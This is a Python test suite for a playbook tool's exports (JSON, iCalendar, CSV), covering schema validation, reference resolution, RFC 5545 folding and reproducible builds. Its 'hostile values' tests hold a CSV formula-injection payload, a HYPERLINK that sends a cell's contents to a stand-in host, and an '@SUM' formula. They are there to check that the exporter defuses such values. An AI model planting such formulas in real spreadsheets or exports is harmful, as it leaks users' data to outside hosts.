"""The playbook as data: ``playbook.json`` with its schema, ``roadmap.ics`` and the CSV
files, as the site publishes them and ``prepbook generate`` writes them.

The example site is built by ``mkdocs build --strict`` in a fresh folder; the files are read
back by the parsers a consumer would use (``jsonschema``, ``icalendar``, ``csv``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import posixpath
import subprocess
import sys
from pathlib import Path
from typing import Any

import icalendar
import jsonschema
import pytest

from prepbook import export
from prepbook.build import check
from prepbook.config import Project, Settings
from prepbook.export.ics import LINE_OCTETS, escape_text, fold, uid
from prepbook.export.tables import FORMULA_STARTS, cell, columns, defused
from prepbook.model.facts import Fact, facts
from prepbook.model.kinds import KINDS, records_in
from tests.conftest import EXAMPLE_IDS, REPO, dated, minimal
from tests.sitecheck import read_page, resolve
from tests.test_site import ENV, copy_repo, run

SITE_URL = "https://playbook.example.org/handbook/"
CSV_FILES = tuple(export.table_file(KINDS[name].where) for name in export.TABLE_KINDS)
ALL_EXPORTS = (export.PLAYBOOK_JSON, export.PLAYBOOK_SCHEMA, export.ROADMAP_ICS, *CSV_FILES)


def with_site_url(root: Path, url: str = SITE_URL) -> Path:
    config = root / "mkdocs.yml"
    config.write_text(f"site_url: {url}\n" + config.read_text(encoding="utf-8"), "utf-8")
    return root


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The repository's playbook, published at SITE_URL, built as CI builds it."""
    root = with_site_url(copy_repo(tmp_path_factory.mktemp("repo")))
    done = run(root, "mkdocs", "build", "--strict")
    assert done.returncode == 0, done.stderr
    return root


def exported(root: Path, name: str, folder: str = "site/playbook") -> Path:
    return root / folder / name


def document(root: Path, folder: str = "site/playbook") -> dict[str, Any]:
    data: dict[str, Any] = json.loads(
        exported(root, export.PLAYBOOK_JSON, folder).read_text("utf-8")
    )
    return data


def calendar_of(path: Path) -> icalendar.Calendar:
    return icalendar.Calendar.from_ical(path.read_bytes())


def rows_of(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def events(path: Path) -> dict[str, Any]:
    return {str(e["UID"]): e for e in calendar_of(path).walk("VEVENT")}


# --- the site links them -----------------------------------------------------------------


@pytest.mark.parametrize("page", ["index.html", "playbook/index.html"])
def test_home_and_portfolio_link_every_export(built: Path, page: str) -> None:
    site = built / "site"
    linked = set()
    for href in read_page(site / page).links:
        resolved = resolve(page, href)
        if resolved is None or "/exports/" not in f"/{resolved[0]}":
            continue
        target = resolved[0]
        assert (site / target).is_file(), f"{page} links {href}, which is not in the site"
        linked.add(posixpath.relpath(target, "playbook"))
    assert linked == set(ALL_EXPORTS)


def test_exports_are_in_the_site_and_the_schema_is_published_beside(built: Path) -> None:
    for name in ALL_EXPORTS:
        assert exported(built, name).stat().st_size > 0, name
    beside = exported(built, export.PLAYBOOK_SCHEMA).read_text(encoding="utf-8")
    committed = (REPO / "content" / "schema" / "playbook.schema.json").read_text("utf-8")
    assert beside == committed
    assert (built / "site" / "schema" / "playbook.schema.json").read_text("utf-8") == committed


# --- playbook.json --------------------------------------------------------------------


def test_json_validates_against_its_published_schema(built: Path) -> None:
    data = document(built)
    schema = json.loads(exported(built, export.PLAYBOOK_SCHEMA).read_text("utf-8"))
    validator = jsonschema.Draft7Validator(
        schema, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER
    )
    assert [e.message for e in validator.iter_errors(data)] == []
    assert (data["format"], data["version"]) == ("prepbook-playbook", 1)
    assert data["build_date"] == "2027-01-01"  # the pinned date of the suite
    assert data["base_url"] == SITE_URL + "playbook/"
    assert [w["id"] for w in data["workshops"]] == sorted(EXAMPLE_IDS)
    # A broken document fails the schema: the check above can fail.
    data["workshops"][0]["references"][0]["target"] = {"id": 3}
    del data["workshops"][0]["content"]["title"]
    assert list(validator.iter_errors(data))


def test_json_holds_every_record_as_the_model_dumps_it(built: Path) -> None:
    checked = check(Project(Settings(workshops="workshops"), built))
    data = {w["id"]: w for w in document(built)["workshops"]}
    for ws_id, loaded in checked.playbook.workshops.items():
        entry = data[ws_id]
        assert entry["content"] == loaded.model.model_dump(mode="json")
        assert entry["file"] == f"workshops/{ws_id}.yaml"
        kinds = {(r["kind"], r["id"]) for r in entry["records"]}
        persofail = loaded.model.persofails[0]
        assert ("persofail", persofail.id) in kinds
        assert ("mitigation", persofail.mitigations[0].id) in kinds  # nested records too
        # computed values are part of the content
        assert entry["content"]["persofails"][0]["inherent"]["score"] == persofail.inherent.score


def test_json_resolves_every_reference_to_a_shown_record(built: Path) -> None:
    data = document(built)
    records = {
        r["qualified_id"]: r for w in data["workshops"] for r in w["records"]
    }  # every record of the playbook, by qualified id
    pages: dict[str, set[str]] = {}
    crossing = 0
    for workshop in data["workshops"]:
        assert workshop["references"], workshop["id"]
        for reference in workshop["references"]:
            assert reference["resolved"], reference  # the examples have no broken reference
            record = records[reference["target"]]
            assert (reference["kind"], reference["title"], reference["page"]) == (
                record["kind"],
                record["title"],
                record["page"],
            )
            target_workshop = reference["target"].partition("/")[0]
            crossing += target_workshop != workshop["id"]
            html, _, anchor = reference["page"].partition("#")
            page = f"playbook/{html}index.html"
            if page not in pages:
                pages[page] = read_page(built / "site" / page).ids
            assert anchor in pages[page], reference["page"]
    assert crossing > 0  # a reference to another workshop's record is resolved there


def test_json_holds_the_findings_and_completeness_of_validate(playbook: Any, cli: Any) -> None:
    unmeasured = minimal("unmeasured").replace("    measured_by: [churn]\n", "")
    root = playbook({"unmeasured.yaml": unmeasured}, examples=True)
    done = cli("generate", "--out", "generated", cwd=root)
    assert done.code == 0, done.err
    report = json.loads(cli("validate", "--format", "json", cwd=root).out)
    data = document(root, "generated")
    assert [w["id"] for w in data["workshops"]] == sorted([*EXAMPLE_IDS, "unmeasured"])
    for workshop in data["workshops"]:
        theirs = [
            (f["rule"], f["message"], f["span"], f["file"])
            for f in report["findings"]
            if f["workshop"] == workshop["id"]
        ]
        ours = [(f["rule"], f["message"], f["span"], f["file"]) for f in workshop["findings"]]
        assert ours == theirs
        assert workshop["completeness"] == report["completeness"][workshop["id"]]
        # the score's old name, kept for one release, holds the same
        assert workshop["readiness"] == workshop["completeness"]
    (unmeasured_entry,) = (w for w in data["workshops"] if w["id"] == "unmeasured")
    assert [f["rule"] for f in unmeasured_entry["findings"]] == ["PB340"]
    assert unmeasured_entry["completeness"]["failed"] == ["PB340"]
    assert set(data["rules"]) == {f["rule"] for f in report["findings"]} == {"PB340"}


# --- roadmap.ics ----------------------------------------------------------------------


def dated_steps(root: Path) -> dict[str, tuple[str, str, dt.date, dt.date, bool]]:
    """Every step with a start, as the site's roadmap dates it: by its UID."""
    checked = check(Project(Settings(workshops="workshops"), root))
    found = {}
    for ws_id, loaded in checked.playbook.workshops.items():
        roadmap = loaded.model.roadmap
        for step in roadmap.steps:
            start, end = roadmap.dates_of(step)
            if start is not None:
                found[uid(ws_id, step.id)] = (
                    ws_id,
                    step.id,
                    start,
                    end or start,
                    step.milestone,
                )
    return found


def test_calendar_has_one_event_per_dated_step_with_its_dates(built: Path) -> None:
    path = exported(built, export.ROADMAP_ICS)
    found = events(path)
    expected = dated_steps(built)
    assert found.keys() == expected.keys()
    assert any(milestone for *_, milestone in expected.values())
    for key, (ws_id, step_id, start, end, milestone) in expected.items():
        event = found[key]
        assert event.decoded("DTSTART") == start
        assert event.decoded("DTEND") == end + dt.timedelta(days=1)  # exclusive
        assert "VALUE=DATE" in event.to_ical().decode()
        assert event.decoded("DTSTAMP") == dt.datetime(2027, 1, 1, tzinfo=dt.UTC)
        assert str(event["URL"]) == f"{SITE_URL}playbook/workshops/{ws_id}/#step-{step_id}"
        assert str(event["SUMMARY"]).startswith("Milestone: ") == milestone
        page = built / "site" / "playbook" / "workshops" / ws_id / "index.html"
        assert f"step-{step_id}" in read_page(page).ids
    raw = path.read_bytes()
    assert raw.count(b"\r\n") == raw.count(b"\n")  # CRLF line ends only
    assert max(len(line) for line in raw.split(b"\r\n")) <= LINE_OCTETS


def test_calendar_names_what_a_step_delivers_and_who_owns_it(built: Path) -> None:
    checked = check(Project(Settings(workshops="workshops"), built))
    found = events(exported(built, export.ROADMAP_ICS))
    graph = checked.playbook.graph
    seen = 0
    for ws_id, loaded in checked.playbook.workshops.items():
        for step in loaded.model.roadmap.steps:
            event = found.get(uid(ws_id, step.id))
            if event is None or not step.delivers or step.owner is None:
                continue
            description = str(event["DESCRIPTION"])
            for node in graph.targets((ws_id, step.id), "delivers"):
                assert node.record.display_name in description
            assert graph.node((ws_id, step.owner)).record.display_name in description
            assert loaded.model.title in [str(c) for c in event["CATEGORIES"].cats]
            seen += 1
    assert seen > 0


# --- generate, hostile values, reproducibility -----------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1, "click; here")'
LONG = "Überprüfung, Qualität; «Zusage» \u2013 " * 12 + "\\ end"


STEP_TITLE = "+Ship, now; \U0001f680"
STEP_TEXT = "-1 line one;\nline two, with a comma"


def quoted(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(text, ensure_ascii=False)


def hostile_workshop() -> str:
    text = minimal("hostile")
    text = text.replace(
        "    title: Offers\n",
        f"    title: {quoted(HYPERLINK)}\n    summary: {quoted('@SUM(1+1)')}\n",
    )
    return text.replace(
        "      title: Build it\n      phase: now\n",
        f"      title: {quoted(STEP_TITLE)}\n"
        "      phase: now\n"
        "      start: 2027-03-01\n"
        "      end: 2027-03-31\n"
        "      milestone: true\n"
        f"      description: {quoted(STEP_TEXT)}\n"
        f"      notes: {quoted(LONG)}\n",
    )


def test_generate_writes_them_with_hostile_values_escaped(playbook: Any, cli: Any) -> None:
    root = playbook({"hostile.yaml": hostile_workshop()})
    done = cli("generate", "--out", "generated", cwd=root)
    assert done.code == 0, done.err
    for name in ALL_EXPORTS:
        assert (root / "generated" / name).is_file(), name

    priorities = rows_of(root / "generated" / export.table_file("priorities"))
    header, row = priorities[0], priorities[1]
    assert header[0] == "workshop" and len(priorities) == 2
    assert row[header.index("title")] == "'" + HYPERLINK  # a formula is shown, never run
    assert row[header.index("summary")] == "'@SUM(1+1)"
    assert row[header.index("requires")] == "crm"
    steps = rows_of(root / "generated" / export.table_file("roadmap.steps"))
    step = dict(zip(steps[0], steps[1], strict=True))
    assert step["title"] == "'" + STEP_TITLE
    assert step["description"] == "'" + STEP_TEXT
    assert step["notes"] == LONG
    assert (step["start"], step["end"], step["milestone"]) == ("2027-03-01", "2027-03-31", "true")

    path = root / "generated" / export.ROADMAP_ICS
    (event,) = calendar_of(path).walk("VEVENT")
    assert str(event["SUMMARY"]) == f"Milestone: {STEP_TITLE} (Minimal workshop)"
    description = str(event["DESCRIPTION"])
    assert description.endswith("\n\n" + STEP_TEXT)
    assert f"Delivers: {HYPERLINK}" in description
    assert "URL" not in event  # no site_url: no address to give
    raw = path.read_bytes()
    assert max(len(line) for line in raw.split(b"\r\n")) <= LINE_OCTETS
    raw.decode("utf-8")  # folding never splits a character

    data = json.loads((root / "generated" / export.PLAYBOOK_JSON).read_text("utf-8"))
    assert data["base_url"] is None
    (workshop,) = data["workshops"]
    assert workshop["content"]["priorities"][0]["title"] == HYPERLINK


def test_a_step_keeps_its_uid_when_its_dates_change(playbook: Any, cli: Any) -> None:
    root = playbook({"hostile.yaml": hostile_workshop()})
    assert cli("generate", "--out", "one", cwd=root).code == 0
    assert cli("generate", "--out", "two", cwd=root).code == 0
    path = root / "workshops" / "hostile.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("2027-03-31", "2027-05-15"), encoding="utf-8")
    assert cli("generate", "--out", "moved", cwd=root).code == 0
    one, two, moved = (events(root / f / export.ROADMAP_ICS) for f in ("one", "two", "moved"))
    assert one.keys() == two.keys() == moved.keys() == {"build.hostile@roadmap.prepbook"}
    (uid,) = one
    assert one[uid].decoded("DTEND") == dt.date(2027, 4, 1)
    assert moved[uid].decoded("DTEND") == dt.date(2027, 5, 16)
    assert moved[uid].decoded("DTSTART") == one[uid].decoded("DTSTART")


def test_two_generations_give_the_same_bytes(tmp_path: Path, cli: Any) -> None:
    """Two copies, in two folders: every export is byte-identical."""
    first, second = (copy_repo(tmp_path / name) for name in ("one", "elsewhere/two"))
    for root in (first, second):
        done = cli("generate", "--out", "generated", cwd=root)
        assert done.code == 0, done.err
    for name in ALL_EXPORTS:
        left = (first / "generated" / name).read_bytes()
        assert left == (second / "generated" / name).read_bytes(), name


def test_the_site_holds_what_generate_writes_and_the_build_leaves_no_copy(
    tmp_path: Path, cli: Any
) -> None:
    """A single build keeps the exports on disk until MkDocs copies them into the site (they
    are tens of megabytes in a large playbook): the site gets the same bytes as ``prepbook
    generate`` writes, and no temporary copy outlives the build."""
    root = copy_repo(tmp_path / "repo")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    done = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict"],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=300,
        env=dated({**ENV, "TMPDIR": str(scratch)}),
    )
    assert done.returncode == 0, done.stderr
    assert list(scratch.iterdir()) == []
    generated = cli("generate", "--out", "generated", cwd=root)
    assert generated.code == 0, generated.err
    for name in ALL_EXPORTS:
        site = exported(root, name).read_bytes()
        assert site == (root / "generated" / name).read_bytes(), name


# --- the columns and the escaping, unit by unit ---------------------------------------


def test_csv_columns_are_every_fact_of_the_kind(built: Path) -> None:
    """Read off the model: every fact any example record has is a column of its file, and
    nested records (a persofail's mitigations) are not."""
    checked = check(Project(Settings(workshops="workshops"), built))
    for name in export.TABLE_KINDS:
        kind = KINDS[name]
        header = rows_of(exported(built, export.table_file(kind.where)))[0]
        assert header == columns(kind)
        for loaded in checked.playbook.workshops.values():
            for record in records_in(loaded.model, kind):
                missing = {f.name for f in facts(record) if f.value is not None} - set(header)
                assert missing == set(), (name, missing)
    assert "mitigations" not in columns(KINDS["persofail"])
    assert {"inherent.score", "residual.level"} <= set(columns(KINDS["persofail"]))
    assert {"score.value", "score.ease", "recipe.trigger"} <= set(columns(KINDS["priority"]))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_that_starts_a_formula_is_defused(start: str) -> None:
    assert defused(f"{start}1+2") == f"'{start}1+2"
    assert cell(Fact("title", f"{start}x")) == f"'{start}x"
    assert cell(Fact("tags", (f"{start}a", "b"))) == f"'{start}a; b"


def test_plain_values_stay_as_they_are() -> None:
    assert defused("a = b") == "a = b"
    assert cell(Fact("votes", -3)) == -3  # a number is no formula
    assert cell(Fact("effort", 2.0)) == 2
    assert cell(Fact("milestone", False)) == "false"
    assert cell(Fact("start", dt.date(2027, 1, 2))) == "2027-01-02"
    assert cell(None) == ""


def test_text_is_escaped_and_folded_as_rfc_5545_says() -> None:
    assert escape_text("a\\b;c,d\ne\r\nf") == "a\\\\b\\;c\\,d\\ne\\nf"
    line = "DESCRIPTION:" + "é" * 100 + "x" * 7
    folded = fold(line)
    assert folded.endswith("\r\n")
    parts = folded.removesuffix("\r\n").split("\r\n")
    assert all(len(p.encode("utf-8")) <= LINE_OCTETS for p in parts)
    assert all(p.startswith(" ") for p in parts[1:])
    assert parts[0] + "".join(p[1:] for p in parts[1:]) == line
    assert fold("SHORT:x") == "SHORT:x\r\n"


def test_a_file_in_docs_dir_where_an_export_goes_stops_the_build(playbook: Any) -> None:
    root = playbook({"mini.yaml": minimal()})
    mine = root / "docs" / "playbook" / "exports" / "roadmap.ics"
    mine.parent.mkdir(parents=True)
    mine.write_text("BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n")
    (root / "mkdocs.yml").write_text("site_name: x\nplugins:\n  - prepbook\n")
    done = run(root, "mkdocs", "build")
    assert done.returncode == 1
    assert "playbook/exports/roadmap.ics exists in docs_dir" in done.stderr
    mine.unlink()
    done = run(root, "mkdocs", "build", "--strict")
    assert done.returncode == 0, done.stderr
    assert (
        (root / "site" / "playbook" / "exports" / "roadmap.ics")
        .read_bytes()
        .startswith(b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n")
    )
